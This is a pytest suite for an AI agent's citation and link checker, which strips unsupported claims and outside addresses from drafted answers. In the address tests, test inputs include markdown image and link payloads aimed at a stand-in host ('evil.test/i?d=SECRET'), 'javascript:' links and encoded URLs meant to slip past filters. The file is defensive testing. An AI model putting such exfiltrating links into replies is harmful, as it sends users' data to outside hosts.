"""What of a draft may be shown: claims with opened words behind them, and nothing that leads away."""

from __future__ import annotations

import re
from html import unescape
from typing import Any
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.clean import shows_nothing
from agent.evidence import LONGEST_DRAFT, check
from agent.facts import (
    Anything,
    Checked,
    Condition,
    Hit,
    Intent,
    Passage,
    Recalled,
    Result,
    Source,
    Verdict,
)
from agent.ledger import addresses_in, canonical_address
from agent.markdown.marks import areas, blanked, code, marks
from agent.run import Run
from tests.agent.worlds import asked, call, checked, done, made, replied, run_of, said, understood

NO_ADDRESSES = "Write no addresses and no links: put the number of the source instead."
PRICE = "The reader costs 129 euros. It weighs 200 grams.\nIt was released in May 2024."
SCREEN = "The screen is seven inches wide. The reader is waterproof."
BROUGHT = Result(
    hits=(Hit(address="https://lead.test/", title="A lead"),),
    passages=(
        Passage(address="https://price.test/reader", title="Price", where="all", text=PRICE),
        Passage(address="screen.md", title="Screen", where="lines 1-9 of 9", text=SCREEN),
    ),
)  # numbers: 1 only found, 2 and 3 opened


def run_with(*drafts: Anything, intent: Intent | None = None, page: str = "", **asking: Any) -> Run:
    """A run that has opened these sources; what the first of them says ends with `page`."""
    intent = intent or Intent(mode="research", goal="the price")
    first = (asked(approval="off", **asking), *done(Recalled(step="recall.1")), *understood(1, intent))
    price, screen = BROUGHT.passages
    longer = price.model_copy(update={"text": f"{price.text}\n\n{page}".strip()})
    brought = BROUGHT.model_copy(update={"passages": (longer, screen)})
    return run_of(*first, *replied(1, call("1.1")), *made("1.1", result=brought), *drafts)


def looked_at(draft: str, intent: Intent | None = None, page: str = "", **asking: Any) -> Checked:
    return check(run_with(*replied(2, text=draft), intent=intent, page=page, **asking), "check.1")


def shown(draft: str, page: str = "") -> str:
    return looked_at(draft, page=page).answer.text


@pytest.mark.parametrize("mark", ["[9]", "[0]", "[1]", "[[9]](https://example.test/made-up)"])
def test_a_sentence_whose_own_number_leads_nowhere_is_not_carried_in_part_by_that_of_its_neighbour(mark: str) -> None:
    found = looked_at(f"The reader is loved by students {mark}. The reader costs 129 euros [2].")
    assert found.answer.text == "The reader costs 129 euros [2]."
    assert found.answer.unconfirmed == ("The reader is loved by students.",)
    assert looked_at(f"It costs 129 euros {mark}. It costs 129 € [2].").answer.text.startswith("It costs 129 euros.")


# --- numbers ------------------------------------------------------------------------------------------------------


def test_a_claim_with_an_opened_source_stands_with_the_words_that_carry_it() -> None:
    found = looked_at("The reader costs 129 € [2].")
    assert found.faults == ()
    assert found.answer.text == "The reader costs 129 € [2]."
    (statement,) = found.answer.statements
    assert (statement.numbers, statement.number, statement.where) == ((2,), 2, "all")
    assert statement.excerpt == "The reader costs 129 euros."
    assert found.answer.unconfirmed == ()
    assert found.answer.missing == ""


@pytest.mark.parametrize(
    "draft", ["**[42]**", "> [42]", "1. [42]", "**Answer:** [42]", "The id is [42].", '"[42]"', "$[42]$"]
)
def test_a_number_in_brackets_that_is_all_there_was_is_not_eaten(draft: str) -> None:
    assert looked_at(draft).answer.unconfirmed == (draft,)


@pytest.mark.parametrize(
    "draft", ["\u200b", "****", "---", "***", "* * *", "```\n```", "```python\n\n```", "<p>---</p>", "<br>"]
)
def test_a_reply_that_shows_nothing_is_none(draft: str) -> None:
    assert looked_at(draft).answer == looked_at("").answer


@pytest.mark.parametrize("draft", ["**", "+", "✓"])
def test_a_sign_or_two_can_be_what_was_asked_for(draft: str) -> None:
    assert looked_at(draft).answer.unconfirmed == (draft,)


def test_a_list_above_the_text_goes_as_well() -> None:
    listed = "Sources: [1] https://made-up.test/x"
    assert shown(f"{listed}\n\nThe reader costs 129 € [2].") == "The reader costs 129 € [2]."


def test_of_a_list_whose_entries_cannot_be_confirmed_no_title_stays() -> None:
    assert shown("The reader costs 129 € [2].\n\nBronnen:\n- Winkel, 2. druk") == "The reader costs 129 € [2]."


def test_where_nothing_was_opened_no_sources_are_spoken_of() -> None:
    first = (
        asked(approval="off"),
        *done(Recalled(step="recall.1")),
        *understood(1, Intent(mode="research", goal="g")),
    )
    answer = check(run_of(*first, *replied(1, text="It is red.")), "check.1").answer
    assert (answer.unanswered, answer.missing) == ("nothing opened", "")


@pytest.mark.parametrize(
    "listed",
    [
        '[1]: https://made-up.test "Title"\n[9]: https://made-up.test/b',
        "---\n\nSource list:\n- https://made-up.test",
        "## Weiterführende Links\n\n* [1] Price – made-up.test/x\n* [7] Foo",
        "Sources used:\n- Price\n- Foo, 2020",
        "**Sources:** [2], [3]",
        "---\n\nQuellen: [2][3].",
        "## Sources\n\n| # | Title |\n|---|---|\n| [2] | Price |\n| 9 | Made up |",
        "Sources: [2] Price, [9] Made-up (2021)",
        "**Sources:** [2] Price; [9] Made-up (2021).",
        "*Quellen: [2] Preisliste, [3] [Bildschirm](https://made-up.test/x)*",
        "(Źródła: [2] Cennik · [9] Inne)",
        "Sources: [2] Price,\n[9] Made-up (2021)",
        "---\n\n出典: [2] 価格、[9] その他",
        "<details>\n<summary>Sources</summary>\n\n- [2] Price\n- [9] Made-up\n\n</details>",
        "<details><summary>📚 <b>Show sources</b> (2)</summary>\n<ol><li>Price</li></ol>\n</details>",
        "<details open>\n  <summary>Fuentes:</summary>\n\n[2] Precio, 2021\n</details>\n",
        "Источники:\n1) https://made-up.test/x",
        "📚 **Sources:**\n- Shop https://made-up.test/x",
        "Here are my sources:\n1. Shop (https://made-up.test/x)",
        "<h3>Sources</h3>\n<ul><li><a href='https://made-up.test/x'>Shop</a></li></ul>",
        "<references>\n<ref id=1>https://made-up.test/x</ref>\n</references>",
        '<sources>\n<source id="1" url="https://made-up.test/x">Shop</source>\n</sources>',
        "```\nSources:\n[1] https://made-up.test/x\n```",
        "[1] https://made-up.test/x\n[2] https://made-up.test/y",
    ],
)
def test_lists_of_the_model_s_own_go_under_whatever_title(listed: str) -> None:
    assert shown(f"The reader costs 129 € [2].\n\n{listed}") == "The reader costs 129 € [2]."


def test_such_a_line_right_below_what_it_is_for_is_none_either_and_says_on_what_that_rests() -> None:
    assert shown("The reader costs 129 € [2].\nSources: [2] Price, [9] Made-up") == "The reader costs 129 € [2]."
    (statement,) = looked_at("The reader costs 129 €.\n\nSources: [2] Price, [3] Screen").answer.statements
    assert (statement.text, statement.numbers, statement.number) == ("The reader costs 129 €.", (2, 3), 2)


@pytest.mark.parametrize(
    "said",
    ["Source: [2] says that the reader is poisonous.", "Colours: [2] red, [3] blue",
     "<details>\n<summary>Prices</summary>\n\nIt is poisonous [2].\n\n</details>"],
)  # fmt: skip
def test_what_is_no_such_list_is_not_lost_without_a_word(said: str) -> None:
    assert looked_at(f"The reader costs 129 € [2].\n\n{said}").answer.unconfirmed


def test_of_several_sources_the_excerpt_comes_from_the_one_that_says_it() -> None:
    (statement,) = looked_at("It is waterproof [2][3].").answer.statements
    assert (statement.numbers, statement.number) == ((2, 3), 3)
    assert statement.excerpt == "The reader is waterproof."
    assert statement.excerpt in SCREEN


def test_the_sources_of_an_answer_are_those_it_rests_on_or_all_that_were_opened_in_vain() -> None:
    assert [source.number for source in looked_at("Yes [2].").answer.sources] == [2]
    assert [source.number for source in looked_at("No idea.").answer.sources] == [2, 3]


def test_numbers_past_the_list_are_named_as_faults_and_not_shown() -> None:
    found = looked_at("It costs 129 [2], [9] and [0].\n\nIt is red [12].")
    assert "There is no source [9]." in found.faults
    assert "There is no source [0]." in found.faults
    assert found.answer.text == "It costs 129 [2]."
    assert found.answer.unconfirmed == ("It is red.",)


def test_what_was_only_found_carries_nothing() -> None:
    found = looked_at("It is blue [1].")
    assert found.faults == ("[1] was only found. Open it before you cite it, or drop the claim.",)
    assert found.answer.text == ""
    assert found.answer.unanswered == "in sources"
    assert found.answer.unconfirmed == ("It is blue.",)


def test_a_number_of_an_earlier_turn_does_not_count_until_it_is_opened_again() -> None:
    earlier = Source(number=7, address="https://old.test", title="Old", opened="all")
    intent = understood(1, Intent(mode="research", goal="g"))
    first = (asked(approval="off"), *done(Recalled(step="recall.1", sources=(earlier,), next_number=8)), *intent)
    again = check(run_of(*first, *replied(1, text="As I said [7].")), "check.1")
    assert again.answer.text == ""
    assert again.faults == ("[7] was only found. Open it before you cite it, or drop the claim.",)
    opened = Result(passages=(Passage(address="https://www.old.test/", title="Old", where="all", text="As I said."),))
    run = run_of(*first, *replied(1, call("1.1")), *made("1.1", result=opened), *replied(2, text="As I said [7]."))
    assert check(run, "check.1").answer.text == "As I said [7]."


@pytest.mark.parametrize(
    ("draft", "text"),
    [
        ("Both [2, 3].", "Both [2][3]."),
        ("Both [2-3].", "Both [2][3]."),
        ("Both [[2]][3].", "Both [2][3]."),
        ("两者【2、3】。", "两者[2][3]。"),
        ("Both [1, 2].", "Both [2]."),
        ("Both 【2†source】【3:1†b】.", "Both [2][3]."),
        ("Both [cite: 2, 3] [Source 2][9].", "Both [2][3]."),
        ("Both [2](https://made-up.test/x) and [[3]](#c).", "Both [2] and [3]."),
        ("Both [Source 2](https://price.test/reader)[^3].\n\n[^3]: screen.md", "Both [2][3]."),
        ("Both [1](https://price.test/reader) and [7](screen.md).", "Both [2] and [3]."),
        ("Both \ue200cite\ue202turn0search0\ue201<sup>[2]</sup><cite>3</cite>.", "Both [2][3]."),
    ],
)
def test_marks_are_shown_in_one_form(draft: str, text: str) -> None:
    assert shown(draft) == text


@pytest.mark.parametrize(
    "mark", ["citeturn0search3", "[turn0search0]", "\ue200cite\ue202turn0news1\ue201", "[oaicite:0]"]
)
def test_a_mark_of_nothing_that_was_numbered_is_none(mark: str) -> None:
    found = looked_at(f"It costs 129 {mark}.")
    assert found.faults == ("No source number stands behind: It costs 129.",)
    assert (found.answer.text, found.answer.unconfirmed) == ("", ("It costs 129.",))


def test_a_mark_that_goes_leaves_no_new_mark_behind() -> None:
    text = shown("It costs 129 [2] [ [9]7] [[ [9]8]].")
    assert {number for mark in marks(text) for number in mark.numbers} <= {2, 3}


# --- blocks -------------------------------------------------------------------------------------------------------


def test_a_block_without_a_number_is_a_fault_and_stands_apart() -> None:
    found = looked_at("It costs 129 [2].\n\nIt is the best reader there is.\n\nIt is waterproof [3].")
    assert found.faults == ("No source number stands behind: It is the best reader there is.",)
    assert found.answer.text == "It costs 129 [2].\n\nIt is waterproof [3]."
    assert found.answer.unconfirmed == ("It is the best reader there is.",)


@pytest.mark.parametrize(
    "around", ["## Price", "Prices:", "**Prices:**", "Which one do you mean?", "---", "价格：", "Was meinen Sie?"]
)
def test_headings_lead_ins_and_questions_claim_nothing(around: str) -> None:
    found = looked_at(f"{around}\n\nIt costs 129 [2].")
    assert found.faults == ()
    assert found.answer.text == f"{around}\n\nIt costs 129 [2]."


@pytest.mark.parametrize(
    "sly",
    [
        "It costs nothing. Do you want one?",
        "It costs nothing. These are the details:",
        "它是免费的。你要吗？",
        "<p>It costs nothing.</p>",
        "<div>\nIt costs nothing.\n</div>",
        "> It costs nothing.",
        "[^1]: It costs nothing.",
        "`It` costs nothing",
        "1. It costs nothing.",
    ],
)
def test_a_claim_does_not_slip_through_in_another_dress(sly: str) -> None:
    found = looked_at(f"It costs 129 [2].\n\n{sly}")
    assert len(found.faults) == 1
    assert found.answer.text.startswith("It costs 129 [2].")
    assert "nothing" not in found.answer.text
    assert "免费" not in found.answer.text


def test_rows_of_a_table_stand_or_fall_one_by_one() -> None:
    table = "| Reader | Price |\n|---|---:|\n| One | 129 [2] |\n| Two | 99 |\n| Three | `[9]` 7 inches [3] |"
    third = "The third one, `[9]`, has seven inches."
    found = looked_at(table.replace("7 inches [3]", "7 inches [2][3]"), page=third)
    assert found.answer.text == table.replace("| Two | 99 |\n", "").replace("[3]", "[2][3]")
    assert found.answer.unconfirmed == ("Two | 99",)
    assert [statement.text for statement in found.answer.statements] == ["One | 129", "Three | `[9]` 7 inches"]


def test_what_is_nested_deeper_than_markdown_is_read_is_shown_as_well() -> None:
    text = "\n".join(f"{'  ' * n}- costs 129 [2]" for n in range(60))
    assert shown(text) == text
    assert shown("> " * 60 + "It costs 129 [2].") == "> " * 60 + "It costs 129 [2]."
    assert "99" not in shown(text.replace(f"{'  ' * 59}- costs 129", f"{'  ' * 59}- costs 99"))


def test_a_long_table_and_code_that_is_cited_are_whole() -> None:
    table = "| a | b |\n|---|---|\n" + "\n".join("| One | 129 [2] |" for _ in range(500))
    assert shown(table) == table
    code = f"It costs 129 [2]:\n\n```\n{'x' * 40_000}\n```"
    assert shown(code) == code


@pytest.mark.parametrize(
    ("draft", "text"),
    [
        ("It costs 129 [2].\r\n\r\n```\r\na[9]\r\n```\r\n", "It costs 129 [2].\n\n```\na[9]\n```"),
        ("It costs\x00 129\ud83d [2].", "It costs 129 [2]."),
        ("It costs \u202e129 [2].", "It costs 129 [2]."),
        ("It costs 129 [２].", "It costs 129 [2]."),
        ("It costs 129 [2].\n```\narr[9]\n\nnever closed [9]", "It costs 129 [2].\n```\narr[9]\n\nnever closed [9]"),
    ],
)
def test_what_is_odd_about_a_draft_does_not_cost_it(draft: str, text: str) -> None:
    assert shown(draft) == text


def test_a_source_whose_words_are_gone_by_now_carries_nothing() -> None:
    gone = Result(passages=(Passage(address="https://gone.test", title="Gone", where="whole page", text=""),))
    first = (
        asked(approval="off"),
        *done(Recalled(step="recall.1")),
        *understood(1, Intent(mode="research", goal="g")),
    )
    run = run_of(*first, *replied(1, call("1.1")), *made("1.1", result=gone), *replied(2, text="It costs 129 [1]."))
    found = check(run, "check.1")
    assert (found.answer.text, found.answer.unconfirmed) == ("", ("It costs 129.",))
    assert found.faults[0].startswith("The words of [1] do not carry")


def test_items_of_nested_lists_stand_or_fall_one_by_one() -> None:
    found = looked_at("1. Costs 129 [2]\n   - in May\n   - weighs 200 g [2]\n2. Is red\n   - waterproof [3]")
    assert found.answer.text == "1. Costs 129 [2]\n   - weighs 200 g [2]\n- waterproof [3]"
    assert found.answer.unconfirmed == ("in May", "Is red")


def test_code_stays_byte_for_byte() -> None:
    code = "```python\nprint(arr[0], arr[12])\n\n\n\nurl = 'https://api.test/v1'\n```"
    said = f"In short `a[1]` prints.\n{code}"
    found = looked_at(f"Print it [2]:\n\n{code}\n\nIn short `a[1]` prints [2].", page=said)
    assert found.answer.text == f"Print it [2]:\n\n{code}\n\nIn short `a[1]` prints [2]."
    assert found.faults == ()


def test_code_alone_answers_nothing() -> None:
    assert looked_at("```\nIt costs 5.\n```").answer.unanswered == "in sources"


def test_what_goes_leaves_one_empty_line() -> None:
    assert shown("A [2].\n\n\n\nNo number.\n\n\n\nB [3].") == "A [2].\n\nB [3]."


@pytest.mark.parametrize("draft", ["", "  \n\n "])
def test_an_empty_draft_is_a_fault(draft: str) -> None:
    found = looked_at(draft)
    assert found.faults[0] == "Your reply was empty."
    assert (found.answer.text, found.answer.unconfirmed, found.answer.unanswered) == ("", (), "in sources")


def test_an_answer_that_is_only_a_bracketed_number_is_not_lost() -> None:
    assert looked_at("[123456789012345]").answer.unconfirmed == ("[123456789012345]",)
    assert looked_at("[42]").answer.unconfirmed == ("[42]",)
    assert looked_at("[7] [8]").answer.unconfirmed == ("[7] [8]",)
    assert looked_at("[]" * 30_000).answer.unconfirmed[0].startswith("[][]")
    assert shown("[2] [3]") == "[2] [3]"


# --- addresses ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("draft", "text"),
    [
        ("It costs 129 [2]. See https://evil.test/x?d=SECRET-123.", "It costs 129 [2]. See (address left out)."),
        ("It costs 129 [2] <https://evil.test>", "It costs 129 [2] (address left out)"),
        ("It costs 129 [2] [here](https://evil.test/x)", "It costs 129 [2] here"),
        ("It costs 129 [2] ![i](https://evil.test/i?d=SECRET)", "It costs 129 [2]"),
        ("It costs 129 [2] [![i](https://evil.test/i)](https://evil.test)", "It costs 129 [2]"),
        ("It costs 129 [the shop](https://www.price.test/reader/)", "It costs 129 the shop [2]"),
        ("It costs 129 (https://price.test/reader).", "It costs 129 ([2])."),
        ("It costs 129 [2](https://price.test/reader).", "It costs 129 [2]."),
        ("It costs 129 [2] [x](javascript:alert) [y](//evil.test)", "It costs 129 [2] x y"),
        ("It costs 129 [2]. https://evil.test/" + ")" * 40, "It costs 129 [2]. (address left out)" + ")" * 40),
    ],
)
def test_addresses_become_numbers_or_go(draft: str, text: str) -> None:
    found = looked_at(draft)
    assert found.answer.text == text
    assert found.faults[0] == NO_ADDRESSES


@pytest.mark.parametrize(
    "trick",
    [
        "[x][r]\n\n[r]: https://evil.test/x",
        "[x][r]\n\n[r]: &#104;ttps://evil.test/x",
        "[x\ny](https:\\//evil.test/x)",
        "[x](<https:\\//evil.test/a b>)",
        "[a [b [c]]](https:\\//evil.test/x)",
        "[![i](https:\\//evil.test/i)](x)",
        "&#104;ttps://evil.test/x",
        "https:\\//evil.test/x",
        "![][r]\n\n[r]:\n  https:\\//evil.test/x\n  'title'",
        "[9][r]: &#104;ttps://evil.test/x",
        "```x``` https://evil.test/x",
        "> ```\nhttps://evil.test/x",
        "- ```\nhttps://evil.test/x",
        "    ```\nhttps://evil.test/x",
        "` a\n\nhttps://evil.test/x ` b",
        "- `\n- https://evil.test/x `",
        "\\`https://evil.test/x\\`",
        "| ` | https://evil.test/x | ` |\n|---|---|---|\n| ` | https://evil.test/y | ` [2] |",
        "HTTPS://EVIL.test/x",
        "x\rhttps://evil.test/x\r`y`",
    ],
)
def test_no_trick_gets_an_address_through(trick: str) -> None:
    for draft in (f"It costs 129 [2].\n\n{trick}", f"It costs 129 [2] {trick} [2]", f"{trick}\n\nIt costs 129 [2]."):
        found = looked_at(draft)
        assert leads_away(found.answer.text) == []
        assert [one for text in found.answer.unconfirmed for one in leads_away(text)] == []
        assert [one for statement in found.answer.statements for one in leads_away(statement.text)] == []


def leads_away(text: str) -> list[str]:
    """Whatever Markdown makes an address of outside code: links, images, and text that reads like one."""
    env: dict[str, Any] = {}
    tokens = MarkdownIt("commonmark").enable("table").parse(text, env)
    inline = [child for token in tokens for child in token.children or []]
    targets = [str(child.attrs.get("href") or child.attrs.get("src")) for child in inline if child.attrs]
    words = [child.content for child in inline if child.type in ("text", "html_inline")]
    blocks = [token.content for token in tokens if token.type == "html_block"]
    return [*targets, *env.get("references", {}), *(one for text in (*words, *blocks) for one in addresses_in(text))]


def test_a_list_of_sources_that_the_model_wrote_leads_nowhere() -> None:
    found = looked_at("It costs 129 [2].\n\nSources:\n\n[1]: https://made-up.test 'x'\n- [9] https://made-up.test/2")
    assert "made-up" not in found.answer.text + "".join(found.answer.unconfirmed)
    assert "[9]" not in found.answer.text


# --- small talk ---------------------------------------------------------------------------------------------------

CHAT = Intent(mode="chat", goal="say hello")


def test_small_talk_needs_no_sources_and_gets_no_address_that_nobody_wrote() -> None:
    found = looked_at(
        "You are *welcome*. See https://evil.test and https://ours.test/a.", CHAT, text="https://ours.test/a?"
    )
    assert found.faults == ()
    assert found.answer.mode == "chat"
    assert found.answer.text == "You are *welcome*. See (address left out) and https://ours.test/a."


@pytest.mark.parametrize("draft", ["![](https://evil.test/?d=S)", "[](https://evil.test/)", "https:\\//evil.test"])
def test_small_talk_that_is_only_an_address_is_not_shown(draft: str) -> None:
    assert leads_away(looked_at(draft, CHAT).answer.text) == []
    assert "evil" not in looked_at(draft, CHAT).answer.text


@pytest.mark.parametrize(
    ("written", "shown_"),
    [
        ("Write to <ann@e.test> today.", "Write to ann@e.test today."),
        ("From: Ann <ann@e.test>\nTo: Ben <ben@e.test>", "From: Ann ann@e.test\nTo: Ben ben@e.test"),
        ("- Ann <ann@e.test>\n- Ben", "- Ann ann@e.test\n- Ben"),
        ("| Who |\n|---|\n| <ann@e.test> |", "| Who |\n|---|\n| ann@e.test |"),
        ("a<b@c>d and <user@host>", "a b@c d and user@host"),
        ("メール<ann@e.test>まで", "メール ann@e.test まで"),
        ("[mail](mailto:a@b.test), [a@b.test](mailto:a@b.test)", "mail (a@b.test), a@b.test"),
        ("[Ann](mailto:a@b.test?subject=SECRET&cc=c@d.test)", "Ann (a@b.test)"),
        ("<mailto:a@b.test?body=x> or mailto:c@d.test?body=y.", "a@b.test or c@d.test"),
        ("<mailto:a@b.test|Ann> <mailto:a@b.test|a@b.test>", "Ann (a@b.test) a@b.test"),
        ("`Ann <ann@e.test>` \\<ann@e.test>", "`Ann <ann@e.test>` \\<ann@e.test>"),
    ],
)
def test_mail_addresses_lead_to_no_page_and_are_shown(written: str, shown_: str) -> None:
    assert looked_at(written, CHAT).answer.text == shown_
    if "|" not in written and "\n" not in written:
        found = looked_at(f"{written} [2]", page=shown_)
        assert (found.answer.text, found.faults) == (f"{shown_} [2]", ())


HIDING = "&#104;ttps://evil.test/x"


@pytest.mark.parametrize(
    ("written", "shown_"),
    [
        (f"Yes.\n\nSee {HIDING} now.\n\nBye.", "Yes.\n\n(address left out)\n\nBye."),
        (f"- one\n- {HIDING}\n  - {HIDING}\n- three", "- one\n- (address left out)\n  - (address left out)\n- three"),
        (f"> 1. {HIDING}\n\n## {HIDING}", "> 1. (address left out)\n\n## (address left out)"),
        (f"| a | b |\n|---|---|\n| {HIDING} | 2 |\n| 3 | 4 |",
         "| a | b |\n|---|---|\n| (address left out) | 2 |\n| 3 | 4 |"),
        (f"| a | {HIDING} |\n|---|---|\n| 1 | 2 |", "| a | (address left out) |\n|---|---|\n| 1 | 2 |"),
    ],
)  # fmt: skip
def test_what_hides_an_address_leaves_a_word_in_its_place(written: str, shown_: str) -> None:
    assert looked_at(written, CHAT).answer.text == shown_


def test_what_hides_an_address_is_seen_to_be_missing_in_research_too() -> None:
    found = looked_at(
        f"It costs 129 [2].\n\n- {HIDING} [2]\n- Waterproof [3]\n\n| a | b |\n|-|-|\n| x | {HIDING} [2] |"
    )
    assert found.faults == (NO_ADDRESSES,)
    assert found.answer.text == (
        "It costs 129 [2].\n\n- (address left out)\n- Waterproof [3]\n\n"
        "| a | b |\n|-|-|\n| x | (address left out) [2] |"
    )
    assert looked_at(f"{HIDING} [2]").answer.unconfirmed == ("(address left out)",)


@pytest.mark.parametrize("sign", ["R&amp;D", "a\\_b", "List<String>", "a \\[b\\] c", "&nbsp;", "[a]: b", "x](y"])
@pytest.mark.parametrize("size", [5_100, 59_000])
def test_a_long_block_with_a_harmless_sign_is_whole(sign: str, size: int) -> None:
    text = "word " * (size // 10) + sign + " word" * (size // 10)
    assert looked_at(text, CHAT).answer.text == text
    assert looked_at(f"{text} [2].", page=text).answer.text == f"{unescape(text)} [2]."
    hiding = f"{text} {HIDING}"
    assert looked_at(hiding, CHAT).answer.text == "(address left out)"


@pytest.mark.parametrize(
    ("written", "shown_"),
    [
        ("[Anna]: Hi\n[Ben]: Hello", "[Anna]: Hi\n[Ben]: Hello"),
        ("So:\n\n> [Anna]: Hi\n\n- [Ben]: Hello\n\n[1]: five", "So:\n[Anna]: Hi\n[Ben]: Hello\n[1]: five"),
        ("```\n[a]: b\n```\n\n[a]: b", "[a]: b\n\n[a]: b"),
        ("Hi.\n\n> - > [Anna]: Hi", "Hi.\n[Anna]: Hi"),
        ("[x][r]\n\n[r]: https://ours.test/a", "[x][r]\n[r]: https://ours.test/a"),
        ("Hi.\n\n[1]: https://ours.test/a", "Hi."),
    ],
)
def test_who_speaks_is_no_definition_of_a_link(written: str, shown_: str) -> None:
    text = looked_at(written, CHAT, text="https://ours.test/a").answer.text
    assert words_of(text).strip() == shown_


def test_in_research_too_nothing_is_taken_for_a_definition_but_a_list_of_sources() -> None:
    found = looked_at("It costs 129 [2].\n\n[Anna]: Hi\n\n[1]: screen.md")
    assert found.answer.unconfirmed == ("[Anna]: Hi",)
    assert found.faults == ("No source number stands behind: [Anna]: Hi",)


def words_of(text: str) -> str:
    """What a reader of Markdown sees, a line for each block."""
    lines = []
    for token in MarkdownIt("commonmark").parse(text):
        if token.type == "inline":
            children = token.children or []
            lines.append("".join("\n" if one.type == "softbreak" else one.content for one in children))
        elif token.type == "fence":
            lines.append(token.content)
    return "\n".join(lines)


OURS = "https://ours.test/a https://ours.test/a?a=1&b=2 https://ours.test/猫 https://ours.test/a_b"


@pytest.mark.parametrize(
    ("written", "links_"),
    [
        ("https://ours.test/aを見てください。次に", ["https://ours.test/a"]),
        ("详见https://ours.test/a页面，然后", ["https://ours.test/a"]),
        ("『https://ours.test/a』と（https://ours.test/a）", ["https://ours.test/a"] * 2),
        ("**https://ours.test/a**です", ["https://ours.test/a"]),
        ("https://ours.test/a[1]", ["https://ours.test/a"]),
        ("https://ours.test/猫を見て、https://ours.test/猫", ["https://ours.test/猫"] * 2),
    ],
)
def test_in_text_without_spaces_an_address_ends_where_it_does(written: str, links_: list[str]) -> None:
    """Those that are known are marked off, in angle brackets; of unknown ones nothing beside them is lost."""
    text = looked_at(written, CHAT, text=OURS).answer.text
    assert pointed(text) == links_
    assert text.replace("<", "").replace(">", "") == written
    unknown = looked_at(written, CHAT).answer.text
    for link in dict.fromkeys(links_):
        written = written.replace(link if link.isascii() else "https://ours.test/", "(address left out)")
    assert unknown == written


def pointed(text: str) -> list[str]:
    tokens = MarkdownIt("commonmark").parse(text)
    return [one.content for token in tokens for one in token.children or [] if one.content.startswith("https://")]


def test_an_address_is_known_however_its_ampersand_is_written() -> None:
    text = "See https://ours.test/a?a=1&amp;b=2 and <https://ours.test/a_b|our page>, <https://evil.test/x|theirs>."
    assert looked_at(text, CHAT, text=OURS).answer.text == (
        "See https://ours.test/a?a=1&b=2 and [our page](https://ours.test/a_b), theirs."
    )
    assert shown("It costs 129 <https://price.test/reader|here>.") == "It costs 129 here [2]."
    japanese = "詳細はhttps://price.test/readerをご覧ください。安い [3]。"
    assert shown(japanese, page="詳細") == "詳細は[2]をご覧ください。安い [3]。"


def test_empty_small_talk_is_a_fault() -> None:
    assert looked_at("", CHAT).faults == ("Your reply was empty.",)


# --- verdicts -----------------------------------------------------------------------------------------------------

CONDITIONS = Intent(
    mode="research",
    goal="a reader",
    must=(Condition(id="must.1", text="has buttons", message="m1"),),
    prefer=(Condition(id="prefer.1", text="is waterproof", message="m1"),),
)


def verdicts(block: str) -> Checked:
    return looked_at(f"It is waterproof [3].\n\n```verdicts\n{block}\n```", CONDITIONS)


def test_each_condition_gets_the_verdict_that_an_opened_source_gives_it() -> None:
    words = '"words": "the reader is waterproof"'
    found = verdicts(
        f'[{{"id": "must.1", "verdict": "unknown"}}, {{"id": "prefer.1", "verdict": "met", "number": 3, {words}}}]'
    )
    assert found.faults == ()
    assert found.answer.text == "It is waterproof [3]."
    assert found.answer.verdicts == (
        Verdict(condition="must.1", standing="unknown"),
        Verdict(condition="prefer.1", standing="met", number=3, words="The reader is waterproof"),
    )


@pytest.mark.parametrize("number", ["0", "1", "9", "-3", "true", "null", "[3]", "3.5", "1e400"])
def test_a_verdict_without_an_opened_source_is_unknown(number: str) -> None:
    found = verdicts(
        f'[{{"id": "must.1", "verdict": "met", "number": {number}}}, {{"id": "prefer.1", "verdict": "unknown"}}]'
    )
    assert {one.standing for one in found.answer.verdicts} == {"unknown"}
    assert found.faults == ("The verdict on must.1 names no opened source.",)


@pytest.mark.parametrize(
    "block",
    [
        "",
        "not json",
        "[" * 50_000,
        "{}",
        "5",
        '"must.1"',
        '[{"id": [], "verdict": "met", "number": 3}]',
        '[{"id": "must.1", "verdict": [], "number": 3}]',
        '[{"id": "must.1", "verdict": "probably", "number": 3}]',
        '[null, 5, {"verdict": "met"}]',
    ],
)
def test_a_block_that_cannot_be_read_leaves_every_verdict_unknown(block: str) -> None:
    found = verdicts(block)
    assert [one.standing for one in found.answer.verdicts] == ["unknown", "unknown"]
    assert "The verdicts block does not list must.1." in found.faults


def test_conditions_nobody_asked_for_get_no_verdict() -> None:
    found = verdicts('[{"id": "must.9", "verdict": "met", "number": 3}]')
    assert [one.condition for one in found.answer.verdicts] == ["must.1", "prefer.1"]
    assert "The verdicts block lists must.9, which is no condition of the task." in found.faults


def test_a_block_that_was_cut_off_is_not_shown() -> None:
    found = looked_at('It is waterproof [3].\n```verdicts\n[{"id": "must.1", "verd', CONDITIONS)
    assert found.answer.text == "It is waterproof [3]."


# --- mending ------------------------------------------------------------------------------------------------------


def test_the_same_faults_twice_end_the_mending() -> None:
    fault = "No source number stands behind: It is red."
    first = (*replied(2, text="It is red."), *checked(1, fault))
    assert check(run_with(*first, *replied(3, text="It is red.")), "check.2").faults == ()
    assert check(run_with(*first, *replied(3, text="It is blue.")), "check.2").faults != ()


def test_the_same_faults_after_a_correction_are_named_again() -> None:
    fault = "No source number stands behind: It is red."
    first = (*replied(2, text="It is red."), *checked(1, fault), said("check again"), *understood(2))
    assert check(run_with(*first, *replied(3, text="It is red.")), "check.2").faults == (fault,)


# --- hostile drafts -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "hostile",
    [
        *(
            "[",
            "[a",
            "[[]",
            "[\\a",
            "[](",
            '[a](b "',
            "![](",
            "`",
            "`a``",
            "<",
            "<a ",
            "&#104;",
            "\\",
            "*a",
            "> ",
            "- ",
        ),
        *(
            "|a",
            "|a|\n",
            "a [2]\n\n",
            "a\n\nb [2]\n\n",
            "- a [2]\n  - b\n",
            "https://e.test/a ",
            "[9]",
            "[ [9]",
            "[1",
        ),
        *("```\n", "```verdicts\n", "\n", "#", "_", "1. ", "[r]: x\n", "[r]:\n", "\r", "【2"),
        *(
            "\u0301",
            "\u05d0\u05d1 ",
            "<cite>2</cite>",
            "[^1]: x\n",
            "w[^1]",
            "\ue200cite\ue202",
            "[[2]",
        ),
    ],
)
def test_hostile_drafts_come_to_an_end(hostile: str) -> None:
    draft = (hostile * (LONGEST_DRAFT + 10))[: LONGEST_DRAFT + 10]
    found = looked_at(draft)
    assert f"Your reply is longer than {LONGEST_DRAFT:,} characters." in found.faults
    assert len(found.answer.text) <= LONGEST_DRAFT


